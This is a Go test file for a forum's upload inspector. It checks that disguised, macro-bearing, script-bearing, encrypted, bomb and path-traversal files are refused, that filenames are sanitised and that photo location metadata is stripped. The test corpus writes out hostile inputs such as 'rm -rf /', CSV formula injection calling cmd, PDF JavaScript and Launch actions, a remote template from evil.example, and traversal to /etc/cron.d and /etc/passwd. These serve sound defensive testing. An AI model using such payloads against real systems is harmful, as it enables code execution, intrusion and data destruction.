package attachment_test

import (
	"archive/zip"
	"bytes"
	"compress/zlib"
	"encoding/binary"
	"flag"
	"fmt"
	"hash/crc32"
	"image"
	"image/jpeg"
	"image/png"
	"io/fs"
	"os"
	"slices"
	"strings"
	"testing"
	"time"
	"unicode/utf16"

	"golang.org/x/text/encoding/korean"

	"acropolis/forum"
	"acropolis/integrations/attachment"
)

// entry is a part of an archive.
type entry struct {
	name, text string
}

func zipped(t testing.TB, entries ...entry) []byte {
	t.Helper()
	var file bytes.Buffer
	z := zip.NewWriter(&file)
	for _, e := range entries {
		w, err := z.CreateHeader(&zip.FileHeader{Name: e.name, Method: map[bool]uint16{true: zip.Store, false: zip.Deflate}[e.name == "mimetype"]})
		if err != nil {
			t.Fatal(err)
		}
		if _, err := w.Write([]byte(e.text)); err != nil {
			t.Fatal(err)
		}
	}
	if err := z.Close(); err != nil {
		t.Fatal(err)
	}
	return file.Bytes()
}

const wordTypes = `<?xml version="1.0"?><Types><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>`

// word is a document with more in it.
func word(t testing.TB, more ...entry) []byte {
	return zipped(t, append([]entry{{"[Content_Types].xml", wordTypes}, {"_rels/.rels", "<Relationships/>"}, {"word/document.xml", "<w:document>광장</w:document>"}}, more...)...)
}

func hwpx(t testing.TB, more ...entry) []byte {
	return zipped(t, append([]entry{{"mimetype", "application/hwp+zip"}, {"version.xml", "<v/>"}, {"Contents/header.xml", "<hh:head/>"}, {"Contents/section0.xml", "<hs:sec>광장</hs:sec>"}}, more...)...)
}

func odt(t testing.TB, more ...entry) []byte {
	return zipped(t, append([]entry{{"mimetype", "application/vnd.oasis.opendocument.text"}, {"content.xml", "<office/>"}, {"META-INF/manifest.xml", "<manifest/>"}}, more...)...)
}

func pdf(objects string) []byte {
	return []byte("%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<</Type /Catalog /Pages 2 0 R>>\nendobj\n2 0 obj\n<</Type /Pages /Kids [] /Count 0>>\nendobj\n" + objects +
		"trailer\n<</Root 1 0 R>>\nstartxref\n9\n%%EOF\n")
}

// objects hides PDF objects in a compressed stream, as programs of today do.
func objects(text string) string {
	var packed bytes.Buffer
	w := zlib.NewWriter(&packed)
	_, _ = w.Write([]byte(text))
	_ = w.Close()
	return "5 0 obj\n<</Type /ObjStm /N 1 /First 4 /Filter /FlateDecode>>\nstream\r\n" + packed.String() + "\r\nendstream\nendobj\n"
}

func wide(name string) string {
	var b []byte
	for _, unit := range utf16.Encode([]rune(name)) {
		b = binary.LittleEndian.AppendUint16(b, unit)
	}
	return string(b)
}

// hwp is as much of an HWP 5 file as is looked at.
func hwp(properties uint32, names ...string) []byte {
	file := []byte("\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + strings.Repeat("\x00", 512-8))
	file = append(file, "HWP Document File"+strings.Repeat("\x00", 15)+"\x00\x00\x00\x05"...)
	file = binary.LittleEndian.AppendUint32(file, properties)
	file = append(file, make([]byte, 216)...)
	for _, name := range append([]string{"Root Entry", "FileHeader", "DocInfo", "BodyText"}, names...) {
		file = append(file, wide(name)+strings.Repeat("\x00", 128-2*len(name))...)
	}
	return file
}

func picture() image.Image { return image.NewGray(image.Rect(0, 0, 8, 6)) }

func pngFile(t testing.TB, chunks ...entry) []byte {
	t.Helper()
	var file bytes.Buffer
	if err := png.Encode(&file, picture()); err != nil {
		t.Fatal(err)
	}
	const afterHead = 8 + 25
	whole := slices.Clone(file.Bytes()[:afterHead])
	for _, c := range chunks {
		body := append([]byte(c.name), c.text...)
		whole = binary.BigEndian.AppendUint32(whole, uint32(len(c.text)))
		whole = binary.BigEndian.AppendUint32(append(whole, body...), crc32.ChecksumIEEE(body))
	}
	return append(whole, file.Bytes()[afterHead:]...)
}

// jpegFile is a picture with notes of a camera.
func jpegFile(t testing.TB, notes ...[]byte) []byte {
	t.Helper()
	var file bytes.Buffer
	if err := jpeg.Encode(&file, picture(), nil); err != nil {
		t.Fatal(err)
	}
	whole := []byte{0xff, 0xd8}
	for _, note := range notes {
		whole = append(whole, note...)
	}
	return append(whole, file.Bytes()[2:]...)
}

func note(marker byte, text string) []byte {
	return append(binary.BigEndian.AppendUint16([]byte{0xff, marker}, uint16(len(text)+2)), text...)
}

// exif says that the picture lies on its side (6), and where it was taken.
const exif = "Exif\x00\x00II\x2a\x00\x08\x00\x00\x00\x02\x00\x12\x01\x03\x00\x01\x00\x00\x00\x06\x00\x00\x00\x25\x88\x04\x00\x01\x00\x00\x00\x26\x00\x00\x00\x00\x00\x00\x00GPS 37.5663N 126.9779E"

func TestWhatADossierTakes(t *testing.T) {
	older, err := korean.EUCKR.NewEncoder().String("구,의견\n중구,37\n")
	if err != nil {
		t.Fatal(err)
	}
	stub := "var Documents = XHwpDocuments;\nvar Document = Documents.Active_XHwpDocument;\nfunction OnDocument_New()\n{\n\t//todo :\n}\n"
	for name, content := range map[string][]byte{
		"계획.pdf": pdf(""), "무거운 계획.PDF": pdf(objects("1 0 <</Type /Page /Contents 3 0 R>>")), "그림이 든 계획.pdf": pdf("7 0 obj\n<</Length 12>>\nstream\n/JavaScript (\nendstream\nendobj\n"),
		"공문.hwp": hwp(1), "공문.hwpx": hwpx(t), "기본 스크립트.hwpx": hwpx(t, entry{"Scripts/headerScripts.js", wide("\ufeff" + stub)}),
		"보고.docx": word(t), "주소가 든.docx": word(t, entry{"word/_rels/document.xml.rels", `<Relationship Type="x/hyperlink" Target="https://seoul.go.kr" TargetMode="External"/>`}),
		"표.xlsx": zipped(t, entry{"[Content_Types].xml", "<Types/>"}, entry{"xl/workbook.xml", "<workbook/>"}), "발표.pptx": zipped(t, entry{"[Content_Types].xml", "<Types/>"},
			entry{"ppt/presentation.xml", "<p/>"}, entry{"ppt/embeddings/sheet.xlsx", string(zipped(t, entry{"[Content_Types].xml", "<Types/>"}, entry{"xl/workbook.xml", "<workbook/>"}))}),
		"보고.odt": odt(t), "표.ods": zipped(t, entry{"mimetype", forum.ODS.Media()}, entry{"content.xml", "<office/>"}),
		"그림.png": pngFile(t), "사진.jpg": jpegFile(t), "사진.JPEG": jpegFile(t),
		"표.csv": []byte("\ufeff구,의견,증감\n중구,37,-5\n종로구,12,+3\n전화,+82-2-120,-\n"), "옛 표.csv": []byte(older), "글.txt": []byte("광장을 엽니다.\n"),
	} {
		f, err := attachment.Inspect(name, content)
		if err != nil {
			t.Errorf("%s: %v", name, err)
			continue
		}
		if err := f.Validate(); err != nil || f.Type.Media() == "" || f.Name != name {
			t.Errorf("%s: %s as %q, %v", name, f.Type, f.Name, err)
		}
	}
}

// TestWhatADossierRefuses is a corpus of files that aren't what they say, or are more than that.
func TestWhatADossierRefuses(t *testing.T) {
	zero := strings.Repeat("\x00", 30<<20)
	large := make([]entry, 8)
	for i := range large {
		large[i] = entry{"word/media/" + string(rune('a'+i)) + ".bmp", zero}
	}
	link := func() []byte {
		var file bytes.Buffer
		z := zip.NewWriter(&file)
		head := &zip.FileHeader{Name: "word/document.xml"}
		head.SetMode(fs.ModeSymlink | 0o777)
		w, _ := z.CreateHeader(head)
		_, _ = w.Write([]byte("/etc/passwd"))
		_ = z.Close()
		return file.Bytes()
	}()
	locked := word(t)
	for _, mark := range []string{"PK\x03\x04", "PK\x01\x02"} {
		at := bytes.Index(locked, []byte(mark))
		locked[at+map[string]int{"PK\x03\x04": 6, "PK\x01\x02": 8}[mark]] |= 1
	}
	var table strings.Builder
	for _, c := range []struct {
		key, what, name string
		content         []byte
	}{
		{"file.empty", "nothing", "a.pdf", nil},
		{"file.too_large", "a byte too much", "a.txt", bytes.Repeat([]byte("a"), forum.FileMax+1)},
		{"file.kind_unknown", "a picture that is a program", "a.svg", []byte(`<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>`)},
		{"file.kind_unknown", "a page", "a.html", []byte("<html><script>alert(1)</script></html>")},
		{"file.kind_unknown", "a program", "a.exe", []byte("MZ\x90\x00")},
		{"file.kind_unknown", "a program behind a document's name", "계획.pdf.exe", pdf("")},
		{"file.kind_unknown", "macros by name", "a.docm", word(t)},
		{"file.kind_unknown", "no ending", "계획", pdf("")},
		{"file.ending_lies", "a program called a document", "a.pdf", []byte("MZ\x90\x00\x03")},
		{"file.ending_lies", "a page called a text", "a.txt", []byte("<!DOCTYPE html><html><body>광장</body></html>")},
		{"file.ending_lies", "a drawing called a picture", "a.png", []byte(`<svg xmlns="http://www.w3.org/2000/svg"/>`)},
		{"file.ending_lies", "a picture called another", "a.png", jpegFile(t)},
		{"file.ending_lies", "a document called a table", "a.xlsx", word(t)},
		{"file.ending_lies", "a zip called a document", "a.docx", zipped(t, entry{"a.txt", "광장"})},
		{"file.ending_lies", "an open document called HWPX", "a.hwpx", odt(t)},
		{"file.ending_lies", "an old Word document called HWP", "a.hwp", []byte("\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + strings.Repeat("\x00", 1000))},
		{"file.ending_lies", "a script called a text", "a.txt", []byte("#!/bin/sh\nrm -rf /\n")},
		{"file.active", "a page somewhere in a text", "a.txt", []byte(strings.Repeat("광장 ", 3000) + "<ScRiPt>alert(1)</ScRiPt>")},
		{"file.not_text", "bytes called a table", "a.csv", []byte("a,b\n\xff\xfe\x01\n")},
		{"file.formula", "a cell that starts a program", "a.csv", []byte("이름,값\n가,=cmd|'/c calc'!A0\n")},
		{"file.formula", "a cell that asks an address", "a.csv", []byte("이름,값\n가,\"@SUM(1+1)*WEBSERVICE(\"\"http\"\")\"\n")},
		{"file.malware", "the scanners' test", "a.txt", []byte(`X5O!P%@AP[4\PZX54(P^)7CC)7}$` + `EICAR-STANDARD-ANTIVIRUS-` + `TEST-FILE!$H+H*`)},
		{"file.malware", "the scanners' test in a document", "a.docx", word(t, entry{"word/media/a.bin", `X5O!P%@AP[4\PZX54(P^)7CC)7}$` + `EICAR-STANDARD-ANTIVIRUS-` + `TEST-FILE!$H+H*`})},
		{"file.active", "macros", "a.docx", word(t, entry{"word/vbaProject.bin", "macro"})},
		{"file.active", "macros by type", "a.docx", zipped(t, entry{"[Content_Types].xml", strings.ReplaceAll(wordTypes, "document.main", "document.macroEnabled.main")}, entry{"word/document.xml", "<w/>"})},
		{"file.active", "a control", "a.docx", word(t, entry{"word/activeX/activeX1.xml", "<ax/>"})},
		{"file.active", "a program in a document", "a.docx", word(t, entry{"word/media/calc.exe", "MZ"})},
		{"file.active", "an object of another program", "a.docx", word(t, entry{"word/embeddings/oleObject1.bin", "Equation.3"})},
		{"file.active", "a template from elsewhere", "a.docx", word(t, entry{"word/_rels/settings.xml.rels", `<Relationship Type="x/attachedTemplate" Target="https://evil.example/a.dotm" TargetMode="External"/>`})},
		{"file.active", "macros in slides' table", "a.pptx", zipped(t, entry{"[Content_Types].xml", "<Types/>"}, entry{"ppt/presentation.xml", "<p/>"},
			entry{"ppt/embeddings/sheet.xlsx", string(zipped(t, entry{"[Content_Types].xml", "<Types/>"}, entry{"xl/workbook.xml", "<w/>"}, entry{"xl/vbaProject.bin", "macro"}))})},
		{"file.active", "Basic in an open document", "a.odt", odt(t, entry{"Basic/Standard/Module1.xml", "Shell"})},
		{"file.active", "a script in HWPX", "a.hwpx", hwpx(t, entry{"Scripts/sourceScripts.js", "function OnDocument_Open() { run(); }"})},
		{"file.active", "a script in HWP", "a.hwp", hwp(1 | 1<<3)},
		{"file.active", "PostScript in HWP", "a.hwp", hwp(1, "BIN0001.eps")},
		{"file.active", "JavaScript in PDF", "a.pdf", pdf("3 0 obj\n<</S /JavaScript /JS (app.alert(1))>>\nendobj\n")},
		{"file.active", "JavaScript in PDF, written otherwise", "a.pdf", pdf("3 0 obj\n<</S /J#61v#61Script>>\nendobj\n")},
		{"file.active", "JavaScript in a PDF's compressed objects", "a.pdf", pdf(objects("3 0 <</S /JavaScript /JS (app.alert(1))>>"))},
		{"file.active", "JavaScript in a PDF's objects that nothing compresses", "a.pdf", pdf("5 0 obj\n<</Type /ObjStm /N 1 /First 4>>\nstream\n3 0 <</S /JavaScript /JS (app.alert(1))>>\nendstream\nendobj\n")},
		{"file.active", "a PDF's objects packed as nobody does", "a.pdf", pdf("5 0 obj\n<</Filter /ASCIIHexDecode /Type /ObjStm /N 1 /First 4>>\nstream\n33203020>\nendstream\nendobj\n")},
		{"file.bomb", "a PDF's objects behind more than anybody reads", "a.pdf", pdf(objects(zero) + objects(zero) + objects("3 0 <</S /JavaScript /JS (app.alert(1))>>"))},
		{"file.active", "a program started by PDF", "a.pdf", pdf("3 0 obj\n<</S /Launch /F (cmd.exe)>>\nendobj\n")},
		{"file.active", "a file in PDF", "a.pdf", pdf("3 0 obj\n<</Names <</EmbeddedFiles 4 0 R>>>>\nendobj\n")},
		{"file.locked", "a PDF with a password", "a.pdf", pdf("trailer <</Encrypt 9 0 R>>\n")},
		{"file.locked", "an HWP with a password", "a.hwp", hwp(1 | 1<<1)},
		{"file.locked", "an encrypted zip", "a.docx", locked},
		{"file.locked", "an encrypted open document", "a.odt", zipped(t, entry{"mimetype", forum.ODT.Media()}, entry{"content.xml", "\x01\x02"}, entry{"META-INF/manifest.xml", "<manifest:encryption-data/>"})},
		{"file.bomb", "zeros", "a.docx", word(t, entry{"word/media/a.bmp", zero})},
		{"file.bomb", "more than is unpacked", "a.docx", word(t, large...)},
		{"file.bomb", "too many entries", "a.docx", word(t, many(5001)...)},
		{"file.path", "a way up", "a.docx", word(t, entry{"../../etc/cron.d/x", "x"})},
		{"file.path", "a way from the root", "a.docx", word(t, entry{"/etc/cron.d/x", "x"})},
		{"file.path", "a way by backslashes", "a.docx", word(t, entry{`word\..\..\x`, "x"})},
		{"file.path", "a symbolic link", "a.docx", link},
		{"file.broken", "an entry twice", "a.docx", word(t, entry{"word/document.xml", "<other/>"})},
		{"file.broken", "half a document", "a.docx", word(t)[:200]},
		{"file.broken", "half a picture", "a.png", pngFile(t)[:60]},
		{"file.broken", "half a photograph", "a.jpg", jpegFile(t)[:300]},
		{"file.mixed", "a document behind a PDF", "a.pdf", append(pdf(""), word(t)...)},
		{"file.mixed", "a page behind a PDF", "a.pdf", append(pdf(""), "<html><script>alert(1)</script>"...)},
		{"file.mixed", "a page before a PDF", "a.pdf", append([]byte("<html><script>alert(1)</script>"), pdf("")...)},
		{"file.mixed", "a zip behind a picture", "a.png", append(pngFile(t), word(t)...)},
		{"file.mixed", "a zip behind a photograph", "a.jpg", append(jpegFile(t), word(t)...)},
		{"file.mixed", "a page behind a photograph", "a.jpg", append(jpegFile(t), "<script>alert(1)</script>"...)},
		{"file.mixed", "something behind a document", "a.docx", append(word(t), "<script>alert(1)</script>"...)},
	} {
		began := time.Now()
		f, err := attachment.Inspect(c.name, c.content)
		refusal := forum.RefusalIn(err)
		if refusal == nil || refusal.Key != c.key {
			t.Errorf("%s: %v as %s, want %s", c.what, err, f.Type, c.key)
		}
		if took := time.Since(began); took > 10*time.Second {
			t.Errorf("%s: it took %v", c.what, took)
		}
		fmt.Fprintf(&table, "| %s | `%s` | `%s` |\n", c.what, c.name, c.key)
	}
	sameAsWritten(t, table.String())
}

var update = flag.Bool("update", false, "write docs/uploads.md anew")

// sameAsWritten compares the table with the page that tells of it.
func sameAsWritten(t *testing.T, table string) {
	t.Helper()
	const file = "../../docs/uploads.md"
	page, err := os.ReadFile(file)
	if err != nil {
		t.Fatal(err)
	}
	const begins = "| what is sent | as | refused as |\n|---|---|---|\n"
	text, written, _ := strings.Cut(string(page), begins)
	if written == table {
		return
	}
	if *update {
		if err := os.WriteFile(file, []byte(text+begins+table), 0o644); err != nil { //nolint:gosec // a page for everybody
			t.Fatal(err)
		}
		return
	}
	t.Errorf("%s isn't what the test says now; write it anew with -update and read the difference", file)
}

func many(n int) []entry {
	all := make([]entry, n)
	for i := range all {
		all[i].name = "word/media/" + string(rune(0x4e00+i))
	}
	return all
}

// TestPicturesLoseWhereTheyWereTaken: of the camera's notes only which way is up stays; the picture itself is the same.
func TestPicturesLoseWhereTheyWereTaken(t *testing.T) {
	taken := jpegFile(t, note(0xe1, exif), note(0xe1, "http://ns.adobe.com/xap/1.0/\x00<x:xmpmeta>GPS</x:xmpmeta>"), note(0xed, "Photoshop 3.0\x00 City: Seoul"), note(0xfe, "taken by 김사진"))
	taken = append(taken, "film of a telephone"...)
	f, err := attachment.Inspect("사진.jpg", taken)
	if err != nil {
		t.Fatal(err)
	}
	for _, personal := range []string{"GPS", "37.5663", "Seoul", "김사진", "film", "xmpmeta"} {
		if bytes.Contains(f.Content, []byte(personal)) {
			t.Errorf("%q is still in it", personal)
		}
	}
	before, err1 := jpeg.Decode(bytes.NewReader(taken))
	after, err2 := jpeg.Decode(bytes.NewReader(f.Content))
	if err1 != nil || err2 != nil || !slices.Equal(before.(*image.Gray).Pix, after.(*image.Gray).Pix) {
		t.Errorf("the picture is another: %v %v", err1, err2)
	}
	if !bytes.Contains(f.Content, []byte("Exif\x00\x00MM\x00\x2a\x00\x00\x00\x08\x00\x01\x01\x12\x00\x03\x00\x00\x00\x01\x00\x06")) {
		t.Error("nobody knows any more which way is up")
	}
	again, err := attachment.Inspect("사진.jpg", f.Content)
	if err != nil || !bytes.Equal(again.Content, f.Content) {
		t.Errorf("looking twice changes it: %v", err)
	}
	f, err = attachment.Inspect("그림.png", pngFile(t, entry{"tEXt", "Author\x00김사진"}, entry{"eXIf", exif[6:]}, entry{"iTXt", "XML:com.adobe.xmp\x00\x00\x00\x00\x00GPS"}, entry{"gAMA", "\x00\x00\xb1\x8f"}))
	if err != nil {
		t.Fatal(err)
	}
	if bytes.Contains(f.Content, []byte("김사진")) || bytes.Contains(f.Content, []byte("GPS")) || !bytes.Contains(f.Content, []byte("gAMA")) {
		t.Errorf("%q", f.Content)
	}
	if _, err := png.Decode(bytes.NewReader(f.Content)); err != nil {
		t.Error(err)
	}
}

func TestNamesAreSafe(t *testing.T) {
	for given, want := range map[string]string{
		`../../etc/passwd.txt`: "passwd.txt", `C:\Users\kim\계획.txt`: "계획.txt", "\u1100\u1161.txt": "가.txt", "계획\r\nSet-Cookie: a=b.txt": "계획Set-Cookie_ a=b.txt",
		"\u202etxt.exe.txt": "txt.exe.txt", `a";rm -rf.txt`: "a__rm -rf.txt", "CON.txt": "_CON.txt", ".txt": "file.txt", "  .. 계획 . .txt": "계획.txt", "a\x00b.txt": "ab.txt",
		"<img src=x>.txt": "_img src=x_.txt", "\xff\xfe.txt": "file.txt", strings.Repeat("가", 300) + ".txt": strings.Repeat("가", 110) + ".txt", "-rf.txt": "rf.txt",
	} {
		f, err := attachment.Inspect(given, []byte("광장\n"))
		if err != nil || f.Name != want {
			t.Errorf("%q is called %q, want %q, %v", given, f.Name, want, err)
		}
	}
}

// FuzzInspect: whatever comes, there is an answer, and what is taken is taken again.
func FuzzInspect(f *testing.F) {
	for name, content := range map[string][]byte{"a.pdf": pdf(objects("/JS")), "a.docx": word(f), "a.hwpx": hwpx(f), "a.hwp": hwp(1), "a.png": pngFile(f), "a.jpg": jpegFile(f, note(0xe1, exif)), "a.csv": []byte("a,=b"), "a.odt": odt(f)} {
		f.Add(name, content)
	}
	f.Fuzz(func(t *testing.T, name string, content []byte) {
		file, err := attachment.Inspect(name, content)
		if err != nil {
			if forum.RefusalIn(err) == nil {
				t.Errorf("%q: %v is no refusal", name, err)
			}
			return
		}
		if err := file.Validate(); err != nil {
			t.Errorf("%q as %q: %v", name, file.Name, err)
		}
		if _, err := attachment.Inspect(file.Name, file.Content); err != nil {
			t.Errorf("%q isn't taken again: %v", name, err)
		}
	})
}
